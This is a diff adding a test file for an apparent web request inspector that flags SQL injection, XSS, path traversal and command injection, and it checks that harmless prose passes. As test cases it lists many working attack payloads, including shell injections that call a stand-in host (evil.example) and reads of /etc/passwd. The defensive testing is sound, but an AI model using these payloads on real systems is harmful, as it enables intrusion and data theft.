@@ -1,0 +1,351 @@
+import { describe, expect, it } from 'vitest';
+import {
+  detectCommandInjection,
+  detectSqlInjection,
+  detectTraversal,
+  detectXss,
+  inspectRequest,
+  inspectValue,
+  isInspectedHeader,
+  MAX_BODY_DEPTH,
+  MAX_BODY_NODES,
+  sqlFingerprint,
+  type InspectOptions,
+} from '../../src/security/detect/index.js';
+import { htmlEntityDecodeOnce, markupDecode, percentDecode } from '../../src/security/detect/decode.js';
+
+const STRICT: InspectOptions = { mode: 'strict' };
+const QUERY_ROUTE: InspectOptions = { mode: 'strict', textFields: new Set(['query', 'prompt', 'message']), freeTextFields: new Set(['code']) };
+const get = (path: string, query = '', headers: Record<string, string | string[] | undefined> = {}) => ({ path, query, headers });
+const post = (path: string, body: unknown) => ({ path, query: '', headers: {}, body });
+
+describe('the prose the issue names passes strict mode', () => {
+  for (const text of [
+    'select the best option from the table',
+    'drop me a note when the job finishes',
+    "O'Reilly",
+    'I <3 this',
+    '1=1 in boolean algebra',
+  ]) {
+    it(JSON.stringify(text), () => {
+      for (const position of ['query', 'body', 'header'] as const) expect(inspectValue(text, 'strict', position)).toBeNull();
+    });
+  }
+});
+
+describe('SQL injection', () => {
+  it('fingerprints token structure in the three contexts', () => {
+    expect(sqlFingerprint("' OR 1=1--", 39, 16)).toBe('s&nonc');
+    expect(sqlFingerprint("1' OR '1'='1", 39, 16)).toBe('s&soq');
+    expect(sqlFingerprint('1 UNION ALL SELECT NULL,2--', 0, 16)).toBe('nUASn,nc');
+    expect(sqlFingerprint('select the best option from the table', 0, 16)).toBe('SbbbMbT');
+    expect(sqlFingerprint("O'Reilly", 0, 16)).toBe('bq');
+    expect(sqlFingerprint("O'Reilly", 39, 16)).toBe('sb');
+    expect(sqlFingerprint('no quote here', 34, 16)).toBe('q');
+    expect(sqlFingerprint("x'/*!50000UNION*/ SELECT 1", 39, 16)).toBe('sUSn');
+    expect(sqlFingerprint("'; EXEC master..xp_cmdshell 'dir'", 39, 16)).toBe('s;XFs');
+  });
+
+  it.each([
+    ["' OR '1'='1", 'tautology with the trailing string left open'],
+    ["admin'--", 'comment truncation after a quote break'],
+    ['1 OR 1=1', 'numeric context'],
+    ["') OR ('a'='a", 'parenthesised'],
+    ["' UNION ALL SELECT NULL,NULL--", 'union'],
+    ["1; DROP TABLE users", 'stacked'],
+    ["'; WAITFOR DELAY '0:0:5'--", 'time-based (MSSQL)'],
+    ["' AND SLEEP(5)#", 'time-based (MySQL)'],
+    ["'||pg_sleep(10)--", 'time-based (PostgreSQL)'],
+    ["' AND extractvalue(1,concat(0x7e,version()))--", 'error-based'],
+    ['%27%20OR%201%3D1--', 'percent-encoded'],
+    ["'/**/OR/**/1=1--", 'comments as whitespace'],
+    ["' OR @@version IS NOT NULL--", 'system variable'],
+    ['1 ORDER BY 5', 'column enumeration'],
+  ])('detects %s (%s)', (payload) => {
+    expect(detectSqlInjection(payload, percentDecode(payload))).toBe(true);
+  });
+
+  it.each([
+    'Can you select all the notes from last week and summarize them?',
+    'Please drop the meeting from my calendar on Friday.',
+    'Delete the reminder about the dentist, it\'s done.',
+    'Insert into my journal: today was a good day',
+    'Order by date desc, please, and drop duplicates',
+    'Union or non-union workers: what\'s the difference in pay?',
+    "He said 'yes' and then 'no'",
+    '"AND" or "OR" — which one narrows a search?',
+    'Is it true or false that 2 + 2 = 4?',
+    'true && false',
+    '1 or 2 days, depending on the queue',
+    'x = 3; y = 4; what is x*y?',
+    'Drop table tennis from my hobbies list',
+    'Great -- thanks!',
+    'C# or F#?',
+    "It's 5 o'clock somewhere",
+  ])('lets prose through: %s', (text) => {
+    expect(detectSqlInjection(text)).toBe(false);
+  });
+});
+
+describe('XSS', () => {
+  it.each([
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '<svg/onload=alert(1)>',
+    '" onmouseover="alert(1)',
+    '"><script>alert(1)</script>',
+    '</textarea><script>alert(1)</script>',
+    'javascript:alert(1)',
+    '<a href="jav&#x09;ascript:alert(1)">x</a>',
+    '&lt;script&gt;alert(1)&lt;/script&gt;',
+    '%253Cscript%253Ealert(1)%253C%252Fscript%253E',
+    '\\u003cscript\\u003ealert(1)',
+    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+    '<div style="width: expression(alert(1))">',
+    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
+    "{{constructor.constructor('alert(1)')()}}",
+  ])('detects %s', (payload) => {
+    expect(detectXss(payload)).toBe(true);
+  });
+
+  it.each([
+    'I <3 this',
+    'a < b and c > d',
+    'x<y',
+    '<3 <3 <3',
+    '<b>important</b> note',
+    'Promise<void> and Map<string, number>',
+    'Link: <https://example.com/page>',
+    'I\'m reading "JavaScript: The Good Parts" again',
+    'Java vs JavaScript: which should I learn first?',
+    'Data: the new oil?',
+    'Use {{name}} as a placeholder',
+    'AT&T and R&D',
+    '**bold**, _italic_, `code`, [link](https://example.com)',
+  ])('lets text through: %s', (text) => {
+    expect(detectXss(text)).toBe(false);
+  });
+
+  it('decodes entities and escapes a bounded number of rounds', () => {
+    expect(htmlEntityDecodeOnce('&#60;&#x3c;&lt&amp;AT&T')).toBe('<<<&AT&T');
+    expect(markupDecode('%2526lt%253B')).toBe('<');
+    // four layers deep is beyond the bound: stays partly encoded rather than looping
+    expect(markupDecode('%25252525').startsWith('%')).toBe(true);
+  });
+});
+
+describe('path traversal', () => {
+  it.each([
+    '../../../etc/passwd',
+    '..\\..\\windows\\win.ini',
+    '..%2f..%2fetc%2fpasswd',
+    '%252e%252e%252fetc%252fpasswd',
+    '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
+    '..%c1%9c..%c1%9cboot.ini',
+    '．．/．．/etc/passwd',
+    '....//....//etc/passwd',
+    '..;/admin',
+    'report.pdf%00.png',
+  ])('detects %s in every position', (payload) => {
+    for (const position of ['path', 'query', 'header', 'body'] as const) {
+      expect(detectTraversal(payload, percentDecode(payload), position), position).toBe(true);
+    }
+  });
+
+  it('is strict in path and query, lenient with prose in bodies', () => {
+    const prose = 'how do I import from ../utils in TypeScript?';
+    expect(detectTraversal(prose, prose, 'body')).toBe(false);
+    expect(detectTraversal(prose, prose, 'query')).toBe(true);
+    expect(detectTraversal('../utils', '../utils', 'body')).toBe(true); // a path, not a sentence
+    expect(detectTraversal('read ../../../app/config.yaml please', 'read ../../../app/config.yaml please', 'body')).toBe(true);
+    expect(detectTraversal('show me ../../etc/passwd', 'show me ../../etc/passwd', 'body')).toBe(true);
+  });
+
+  it('absolute sensitive paths: always in path/query, only as the whole value in bodies', () => {
+    expect(detectTraversal('/etc/passwd', '/etc/passwd', 'body')).toBe(true);
+    expect(detectTraversal('c:\\windows\\win.ini', 'c:\\windows\\win.ini', 'body')).toBe(true);
+    expect(detectTraversal('my /etc/passwd got corrupted, help', 'my /etc/passwd got corrupted, help', 'body')).toBe(false);
+    expect(detectTraversal('my /etc/passwd got corrupted', 'my /etc/passwd got corrupted', 'query')).toBe(true);
+  });
+
+  it.each(['Go back to the ... previous page', 'Wait... what?', 'hmm.. not sure', 'my notes are in docs/2024/plan.md', 'cd .. and then docs'])(
+    'lets prose through everywhere: %s',
+    (text) => {
+      for (const position of ['path', 'query', 'header', 'body'] as const) expect(detectTraversal(text, text, position)).toBe(false);
+    },
+  );
+});
+
+describe('command injection', () => {
+  it.each([
+    '; id',
+    ';id;',
+    '| whoami',
+    '&& cat /etc/passwd',
+    '`whoami`',
+    'foo`id`bar',
+    '$(curl evil.example)',
+    ';cat${IFS}/etc/passwd',
+    ';{cat,/etc/passwd}',
+    "; c'a't /etc/passwd",
+    ';/???/??t /???/p??s??',
+    'x\nwhoami',
+    '& ping -n 10 127.0.0.1',
+    '&& net user',
+    '${jndi:ldap://evil.example/a}',
+  ])('detects %s', (payload) => {
+    expect(detectCommandInjection(payload)).toBe(true);
+  });
+
+  it.each([
+    'cats; dogs',
+    'rock & roll',
+    'AT&T and T-Mobile',
+    'Tom & Jerry; Ben & Jerry',
+    'time & date of the next sync?',
+    'pros | cons',
+    '| id | name | type |',
+    'Note to self; call the bank',
+    'Ping me when the job is done',
+    'Shopping list:\ncat food\nmilk',
+    'run `ls -la` to see hidden files',
+    'village-cli/0.3.1 (linux; node v24.1.0)',
+    'Price: $20 (was $25)',
+  ])('lets prose through: %s', (text) => {
+    expect(detectCommandInjection(text)).toBe(false);
+  });
+});
+
+describe('modes', () => {
+  it('text mode lets SQL- and shell-looking prose through but still blocks script injection and traversal', () => {
+    expect(inspectValue("Why does ' OR 1=1 -- show up in my logs?", 'text')).toBeNull();
+    expect(inspectValue("Why does ' OR 1=1 -- show up in my logs?", 'strict')).toBe('sql_injection');
+    expect(inspectValue('What does `; rm -rf /` do?', 'text')).toBeNull();
+    expect(inspectValue('<script>alert(1)</script>', 'text')).toBe('xss');
+    expect(inspectValue('../../../etc/passwd', 'text')).toBe('path_traversal');
+  });
+
+  it('off inspects nothing', () => {
+    const req = { ...get('/v1/x/..%2f..%2fetc%2fpasswd', 'q=%27%20OR%201%3D1--'), body: { t: '<script>alert(1)</script>' } };
+    expect(inspectRequest(req, { mode: 'off' })).toBeNull();
+    expect(inspectRequest(req, STRICT)).not.toBeNull();
+  });
+
+  it('textFields switch a body field (and a query parameter) to text mode', () => {
+    const sqlProse = 'I typed 1; DROP TABLE notes -- did I lose data?';
+    expect(inspectRequest(post('/v1/query', { query: sqlProse }), QUERY_ROUTE)).toBeNull();
+    expect(inspectRequest(post('/v1/query', { note: sqlProse }), QUERY_ROUTE)).toEqual({ rule: 'sql_injection', location: 'body', field: 'note' });
+    expect(inspectRequest(get('/v1/query', `prompt=${encodeURIComponent(sqlProse)}`), QUERY_ROUTE)).toBeNull();
+    expect(inspectRequest(post('/v1/query', { query: '<img src=x onerror=alert(1)>' }), QUERY_ROUTE)?.rule).toBe('xss');
+  });
+
+  it('free-text fields are not inspected, whatever they hold; their siblings still are', () => {
+    const code = "<script>\n  fetch('/x?q=' + \"' OR 1=1 --\");\n</script>\nimport a from '../../a.js'; cat /etc/passwd | sh";
+    expect(inspectRequest(post('/v1/knowledge/ask', { code, question: 'why does this fail?' }), QUERY_ROUTE)).toBeNull();
+    expect(inspectRequest(post('/v1/knowledge/ask', { code, question: '<svg onload=alert(1)>' }), QUERY_ROUTE)).toEqual({
+      rule: 'xss',
+      location: 'body',
+      field: 'question',
+    });
+    // a free-text field holding an object: the whole subtree is free text
+    expect(inspectRequest(post('/v1/knowledge/ask', { code: { files: [{ text: code }] } }), QUERY_ROUTE)).toBeNull();
+  });
+
+  it('field names may be dotted paths (without array indices)', () => {
+    const options: InspectOptions = { mode: 'strict', freeTextFields: new Set(['snippet.body']) };
+    expect(inspectRequest(post('/v1/x', { snippet: { body: '<script>x()</script>' } }), options)).toBeNull();
+    expect(inspectRequest(post('/v1/x', { other: { body: '<script>x()</script>' } }), options)?.rule).toBe('xss');
+  });
+});
+
+describe('inspectRequest', () => {
+  it('checks path segments after percent-decoding, and the whole path for traversal', () => {
+    expect(inspectRequest(get('/v1/knowledge/documents/..%2f..%2fetc%2fpasswd'), STRICT)).toEqual({ rule: 'path_traversal', location: 'path' });
+    expect(inspectRequest(get('/v1/knowledge/documents/%252e%252e%252fsecret'), STRICT)?.rule).toBe('path_traversal');
+    expect(inspectRequest(get('/v1/docs//etc/passwd'), STRICT)?.rule).toBe('path_traversal');
+    expect(inspectRequest(get('/v1/users/1%20OR%201%3D1'), STRICT)).toEqual({ rule: 'sql_injection', location: 'path' });
+    expect(inspectRequest(get('/v1/knowledge/documents/Q3%20report%20(final).pdf'), STRICT)).toBeNull();
+  });
+
+  it('checks query keys and values, naming the parameter', () => {
+    expect(inspectRequest(get('/v1/search', 'q=hello&sort=1%20ORDER%20BY%205'), STRICT)).toEqual({ rule: 'sql_injection', location: 'query', field: 'sort' });
+    expect(inspectRequest(get('/v1/search', '%3Cscript%3Ealert(1)%3C%2Fscript%3E=1'), STRICT)?.location).toBe('query');
+    expect(inspectRequest(get('/v1/search', 'q=select+the+best+option+from+the+table&page=2'), STRICT)).toBeNull();
+  });
+
+  it('inspects user-data headers but never credentials', () => {
+    expect(isInspectedHeader('User-Agent')).toBe(true);
+    expect(isInspectedHeader('x-client-context')).toBe(true);
+    expect(isInspectedHeader('authorization')).toBe(false);
+    expect(isInspectedHeader('cookie')).toBe(false);
+    expect(isInspectedHeader('x-api-key')).toBe(false);
+    expect(isInspectedHeader('accept')).toBe(false);
+    expect(inspectRequest(get('/v1/x', '', { 'user-agent': "' OR 1=1--" }), STRICT)).toEqual({ rule: 'sql_injection', location: 'header', field: 'user-agent' });
+    expect(inspectRequest(get('/v1/x', '', { 'x-note': ['ok', '<script>alert(1)</script>'] }), STRICT)?.field).toBe('x-note');
+    expect(inspectRequest(get('/v1/x', '', { authorization: "Bearer ' OR 1=1--", cookie: 'a=<script>' }), STRICT)).toBeNull();
+  });
+
+  it('walks nested JSON (objects, arrays, keys) and names the field by its path', () => {
+    const body = { messages: [{ role: 'user', content: 'hi' }, { role: 'user', content: { parts: ['fine', "x' UNION SELECT password FROM users--"] } }] };
+    expect(inspectRequest(post('/v1/twin/chat', body), STRICT)).toEqual({ rule: 'sql_injection', location: 'body', field: 'messages[1].content.parts[1]' });
+    expect(inspectRequest(post('/v1/twin/chat', { meta: { '<svg onload=alert(1)>': 1 } }), STRICT)).toEqual({ rule: 'xss', location: 'body', field: 'meta.?' });
+    expect(inspectRequest(post('/v1/twin/chat', '../../etc/passwd'), STRICT)).toEqual({ rule: 'path_traversal', location: 'body' });
+    expect(inspectRequest(post('/v1/twin/chat', { n: 1, ok: true, nothing: null, list: [1, 2, 3] }), STRICT)).toBeNull();
+  });
+
+  it(`rejects bodies nested deeper than ${MAX_BODY_DEPTH} levels without recursing (no stack overflow)`, () => {
+    let deep: unknown = 'leaf';
+    for (let i = 0; i < 200_000; i++) deep = [deep];
+    expect(inspectRequest(post('/v1/x', deep), STRICT)).toMatchObject({ rule: 'input_too_complex', location: 'body' });
+    // the same through JSON.parse, as a client would send it
+    const parsed: unknown = JSON.parse(`${'{"a":'.repeat(5000)}"x"${'}'.repeat(5000)}`);
+    expect(inspectRequest(post('/v1/x', parsed), STRICT)?.rule).toBe('input_too_complex');
+    let ok: unknown = 'fine';
+    for (let i = 0; i < MAX_BODY_DEPTH; i++) ok = { a: ok };
+    expect(inspectRequest(post('/v1/x', ok), STRICT)).toBeNull();
+  });
+
+  it(`rejects bodies with more than ${MAX_BODY_NODES} values instead of checking only part`, () => {
+    const wide = Array.from({ length: MAX_BODY_NODES + 1 }, () => 'x');
+    expect(inspectRequest(post('/v1/x', wide), STRICT)).toEqual({ rule: 'input_too_complex', location: 'body' });
+    expect(inspectRequest(post('/v1/x', wide.slice(0, 1000)), STRICT)).toBeNull();
+  });
+
+  it('never echoes the payload: only the rule class, location and a sanitised field name', () => {
+    const payload = "zz'; DROP TABLE users--";
+    const findings = [
+      inspectRequest(get(`/v1/x/${encodeURIComponent(payload)}`), STRICT),
+      inspectRequest(get('/v1/x', `q=${encodeURIComponent(payload)}`), STRICT),
+      inspectRequest(get('/v1/x', `${encodeURIComponent(payload)}=1`), STRICT),
+      inspectRequest(get('/v1/x', '', { 'x-evil': payload }), STRICT),
+      inspectRequest(post('/v1/x', { a: { [payload]: 'v' } }), STRICT),
+      inspectRequest(post('/v1/x', { [payload]: { b: payload } }), STRICT),
+    ];
+    for (const finding of findings) {
+      expect(finding).not.toBeNull();
+      const text = JSON.stringify(finding);
+      expect(text).not.toContain('DROP');
+      expect(text).not.toContain("zz'");
+      expect(Object.keys(finding ?? {}).every((k) => ['rule', 'location', 'field'].includes(k))).toBe(true);
+    }
+    expect(findings[2]?.field).toBe('?');
+    expect(findings[4]?.field).toBe('a.?');
+    expect(findings[5]?.field).toBe('?');
+  });
+});
+
+describe('cost on hostile input', () => {
+  it('stays linear on 100 kB adversarial values (no catastrophic backtracking)', () => {
+    const n = 100_000;
+    const shapes = [
+      '{{a'.repeat(n / 3), '${a'.repeat(n / 3), '/' + '?'.repeat(n), '<a '.repeat(n / 3), "'a".repeat(n / 2), '"a'.repeat(n / 2),
+      '; cat food'.repeat(n / 10), '`a'.repeat(n / 2), '%25'.repeat(n / 3), '&#60'.repeat(n / 4), '../'.repeat(n / 3), '('.repeat(n),
+      '/*'.repeat(n / 2), '@'.repeat(n), '" on'.repeat(n / 4), 'select union or and '.repeat(n / 20), '\ncat x'.repeat(n / 6),
+    ];
+    for (const value of shapes) {
+      const started = performance.now();
+      inspectValue(value, 'strict', 'body');
+      expect(performance.now() - started, JSON.stringify(value.slice(0, 12))).toBeLessThan(250);
+    }
+  });
+});
